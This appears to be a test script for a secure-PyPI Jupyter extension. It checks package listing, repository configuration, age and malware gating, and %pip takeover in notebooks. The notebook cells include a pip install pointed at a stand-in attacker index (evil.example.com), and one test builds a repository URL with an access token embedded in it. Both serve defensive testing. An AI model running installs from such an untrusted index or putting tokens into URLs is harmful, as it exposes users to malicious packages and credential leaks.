"""What the panel and a notebook do with the packages of an environment: look, take over, hold back, remove, export."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

from canary_support import Canary
from osv_records import record

from jupyter_securepypi.core.errors import SecurePyPIError
from jupyter_securepypi.demo.kernel import Kernel

LOOKS = [
    "/packages?kernel=acme",
    "/packages/search?text=acme",
    "/packages/newest?kernel=acme&packages=acme-core,acme-plots%3D%3D0.1,no-such-package",
    "/installs?matching=acme",
    *(f"/installs/export?format={form}" for form in ("csv", "json", "cyclonedx")),
]
# With the option take_over_pip, all of it is ours.
CELLS = [
    "%pip install -vvv acme-plots --force-reinstall",
    "%uv pip install acme-core --reinstall",
    "%pip install -v acme-broken",
    "%pip install --extra-index-url https://evil.example.com/simple acme-core",
    "%secure_pip freeze",
    "%secure_pip freeze -o frozen.txt",
    "%secure_pip show acme-plots",
    "%secure_pip show no-such-package",
    "%secure_pip check",
    "%secure_pip uninstall -y acme-plots",
    "%secure_pip uninstall -y no-such-package",
]


def packages(canary: Canary) -> None:
    """Ask what the panel asks, while the index answers and while it does not."""
    for path in LOOKS:
        canary.ask("GET", path)
    assert '"name":"acme-core"' in canary.outputs[f"answer to GET {LOOKS[0]}"].replace(" ", "")
    canary.aws.faults(error=500, operations=["index:*"])
    canary.ask("GET", "/packages/search?text=acme-co")
    canary.ask("GET", "/packages/newest?kernel=acme&packages=acme-features")
    canary.aws.clear()


def save(canary: Canary) -> None:
    """Save a repository: the configured one, and an address that somebody has copied with the token in it."""
    grant = json.loads(canary.token_files[0].read_text())
    secret, place = grant["token"]["secret"], next(iter(grant["places"].values()))
    host = urlsplit(place["endpoint_url"]).netloc
    pasted = f"https://aws:{secret}@{host}/pypi/shared-pypi/simple/"
    for repository in (canary.aws.repository_arn, pasted, f"arn:{secret}"):
        canary.ask("POST", "/configuration", {"repository": repository})
    nowhere = {"CA_REPOSITORY_ARN": None}
    assert "saved" in canary.cli("configure", "--repository", canary.aws.repository_arn, **nowhere)


def gate(canary: Canary) -> None:
    """Hold packages back: for their age, for an advisory, by name."""
    database = canary.box.work / "all.zip"
    with zipfile.ZipFile(database, "w") as archive:
        archive.writestr("MAL-1.json", json.dumps(record("MAL-1", "acme-plots", introduced="0")))
    known = {"SECURE_PYPI_MALWARE": "block", "SECURE_PYPI_OSV_DATABASE": str(database)}
    silent = {"SECURE_PYPI_MALWARE": "block", "SECURE_PYPI_OSV_URL": "http://127.0.0.1:9"}
    for engine, policy, told in (
        ("uv", {"SECURE_PYPI_MINIMUM_AGE": "3000 days"}, "Held back: acme-plots"),
        ("pip", known, "Held back: acme-plots"),
        ("uv", silent, "does not say what is known"),
        ("uv", {"SECURE_PYPI_BLOCKED": json.dumps({"acme-plots": "ask me"})}, "Held back: acme-plots"),
    ):
        said = canary.cli("install", "acme-plots", "--force-reinstall", "--engine", engine, **policy)
        assert told in said, said
    canary.cli("why", "acme-plots", **known)
    canary.cli("audit", **known)


def notebook(canary: Canary) -> None:
    """Run the cells of an old notebook, taken over, and those that list and remove."""
    with _take_over(canary):
        kernel = Kernel(canary.box)
        for number, cell in enumerate(CELLS):
            where = f"output of the later cell {number}: {cell!r}"
            try:
                canary.keep(where, kernel.run(cell))
            except SecurePyPIError as error:
                canary.keep(where, error.why)
        canary.keep("every message of the later kernel", json.dumps(kernel.outputs))
        kernel.close()
    assert "all from acme/shared-pypi" in canary.outputs[f"output of the later cell 0: {CELLS[0]!r}"]
    canary.cli("freeze")
    canary.cli("show", "acme-core", "--json")
    canary.cli("check")
    assert "removed from" in canary.cli("uninstall", "-y", "acme-core")


@contextmanager
def _take_over(canary: Canary) -> Iterator[None]:
    file = canary.box.home / ".jupyter/jupyter_securepypi_config.json"
    before = file.read_text()
    options = json.loads(before)["SecurePyPI"]
    file.write_text(json.dumps({"SecurePyPI": {**options, "take_over_pip": True}}))
    try:
        yield
    finally:
        file.write_text(before)
